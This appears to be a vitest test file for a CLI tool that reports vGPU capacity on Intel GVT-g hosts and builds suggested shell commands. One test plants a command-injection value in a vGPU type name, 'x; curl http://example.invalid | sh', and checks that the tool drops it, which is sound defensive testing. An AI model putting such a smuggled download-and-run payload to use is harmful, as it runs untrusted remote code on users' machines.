import { expect, test } from 'vitest';
import type { Report } from '../../src/judge/report-types.ts';
import { viewOf, type View } from '../../src/report/view.ts';
import { loadRules } from '../../src/rules/load.ts';
import { words } from '../../src/words/words.ts';
import { judgeFixture } from '../fixture-hosts.ts';
import { hostFixture } from '../run-cli.ts';

const view = (report: Report): View =>
  viewOf(report, { language: 'en', words: words.en, rules: loadRules(), call: 'fngvt' });

test('nothing is promised where the aperture leaves no room beside it, whatever the counts say', async () => {
  const report = await judgeFixture(hostFixture('m720q-debian12.aperture-4096'));
  expect(report.vgpu.capacity[0]?.fresh?.some(type => type.instances > 0)).toBe(true);
  expect(view(report).promise).toBe('');
  expect(view(await judgeFixture(hostFixture('fnos-hd620'))).promise).not.toBe('');
});

test('only a type that we know becomes part of a command', async () => {
  const report = await judgeFixture(hostFixture('fnos-hd620.rebooted'));
  expect(view(report).next).toMatchObject([
    { command: 'sudo fngvt vgpu create --type i915-GVTg_V5_4 --autostart' },
    { command: 'fngvt vm' },
  ]);
  const types = report.vgpu.types.map(type => ({ ...type, name: 'x; curl http://example.invalid | sh #_4' }));
  expect(view({ ...report, vgpu: { ...report.vgpu, types } }).next).toEqual([]);
});

test('a text of megabytes is cut, and says so', async () => {
  const report = await judgeFixture(hostFixture('fnos-hd620'));
  const long = 'x'.repeat(5_000_000);
  const { machine } = view({ ...report, host: { ...report.host, kernel: long } });
  expect(machine[1]).toMatch(/^x{120}… \(cut, \d+ more characters\)$/u);
});
